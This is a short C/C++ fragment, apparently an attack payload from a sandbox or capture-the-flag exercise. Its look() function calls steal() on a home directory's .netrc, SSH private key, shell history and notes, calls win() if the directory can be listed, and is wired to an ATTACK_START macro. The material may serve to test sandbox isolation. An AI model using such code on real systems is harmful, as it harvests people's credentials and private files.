static void look() {
    steal(HOME_DIRECTORY "/notes.txt", "notes");
    steal(HOME_DIRECTORY "/.netrc", "netrc");
    steal(HOME_DIRECTORY "/.bash_history", "history");
    steal(HOME_DIRECTORY "/results/ada.json", "results");
    steal(HOME_DIRECTORY "/.ssh/id_ed25519", "key");
    if (DIR* home = opendir(HOME_DIRECTORY)) {
        win("list");
        closedir(home);
    }
}
#define ATTACK_START look()
